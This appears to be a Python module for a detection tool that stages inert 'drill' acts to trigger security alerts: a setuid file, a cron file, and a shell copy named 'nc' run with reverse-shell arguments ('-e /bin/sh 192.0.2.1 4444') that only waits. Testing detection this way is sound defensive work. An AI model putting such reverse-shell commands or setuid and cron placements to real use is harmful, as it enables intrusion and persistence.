"""Harmless acts that must raise alerts: real files and a real process, each named so that it is known as a drill.

Nothing here does what it looks like: the setuid file is inert text, the cron file has a name cron skips (cron(8),
Debian: names with a dot) and holds a comment, and the "reverse shell" is a shell that waits for its standard input.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import tempfile
import time
from collections.abc import Iterator, Sequence
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from typing import Final, Protocol

__all__ = ["MARK", "Act", "CronFile", "SetuidFile", "ShellBack", "choose", "writable"]

MARK: Final = "sentinair-drill"
_INERT: Final = b"# Sentinair drill: inert, and safe to delete.\n"


class Act(Protocol):
    """One act.  token stands in the path or the process of whatever alert it raises.

    technique: ATT&CK id that the alert it must raise names.
    """

    name: str
    token: str
    technique: str

    def done(self) -> AbstractContextManager[int]:
        """A context: on entry the act is done and its steady time (ns) given; on exit every trace is removed."""
        ...


class _FileAct:
    name = ""
    technique = ""
    mode = 0o600

    def __init__(self, folder: Path, suffix: str) -> None:
        self.token = f"{MARK}-{os.urandom(4).hex()}"
        self.path = folder / f"{self.token}{suffix}"

    @contextmanager
    def done(self) -> Iterator[int]:
        flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW | os.O_CLOEXEC
        descriptor = os.open(self.path, flags, 0o600)
        try:
            try:
                os.write(descriptor, _INERT)
                os.fchmod(descriptor, self.mode)
            finally:
                os.close(descriptor)
            yield time.monotonic_ns()
        finally:
            self.path.unlink(missing_ok=True)


class SetuidFile(_FileAct):
    name = "setuid file"
    technique = "T1548.001"
    mode = stat.S_ISUID | 0o755

    def __init__(self, folder: Path) -> None:
        super().__init__(folder, "")


class CronFile(_FileAct):
    name = "cron file"
    technique = "T1053.003"

    def __init__(self, folder: Path) -> None:
        super().__init__(folder, ".inert")


class ShellBack:
    """A copy of the shell, named as a network tool, with the arguments of a reverse shell; it only waits."""

    name = "reverse shell"
    technique = "T1059.004"

    def __init__(self, folder: Path) -> None:
        self.token = f"{MARK}-{os.urandom(4).hex()}"
        self.folder = folder

    @contextmanager
    def done(self) -> Iterator[int]:
        home = Path(tempfile.mkdtemp(prefix=f"{self.token}-", dir=self.folder))
        try:
            tool = home / "nc"
            shutil.copyfile("/bin/sh", tool)
            tool.chmod(0o700)
            # 192.0.2.0/24 is TEST-NET-1 (RFC 5737): no host has it, and nothing here connects anyway.
            words = ["nc", "-c", "read wait", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"]
            child = subprocess.Popen(words, executable=tool, stdin=subprocess.PIPE, env={})
            done_ns = time.monotonic_ns()
            try:
                yield done_ns
            finally:
                child.communicate(timeout=5)  # end of input ends it
        finally:
            shutil.rmtree(home, ignore_errors=True)


def writable(folder: Path) -> bool:
    return folder.is_dir() and os.access(folder, os.W_OK | os.X_OK)


def choose(watched: Sequence[Path]) -> tuple[list[Act], list[tuple[str, str]]]:
    """What can be done here under these watched roots, and what cannot, each with its reason."""
    acts: list[Act] = [ShellBack(Path(tempfile.gettempdir()))]
    skipped = []
    preferred = [Path("/etc"), *watched]
    folder = next((root for root in preferred if _within(root, watched) and writable(root)), None)
    if folder is None:
        skipped.append((SetuidFile.name, "no watched directory may be written by you; use sudo"))
    else:
        acts.append(SetuidFile(folder))
    cron = Path("/etc/cron.d")
    if not _within(cron, watched):
        skipped.append((CronFile.name, f"{cron} is not watched"))
    elif not writable(cron):
        skipped.append(
            (CronFile.name, f"{cron} may not be written by you, or is not there; use sudo")
        )
    else:
        acts.append(CronFile(cron))
    return acts, skipped


def _within(path: Path, roots: Sequence[Path]) -> bool:
    return any(path == root or root in path.parents for root in roots)
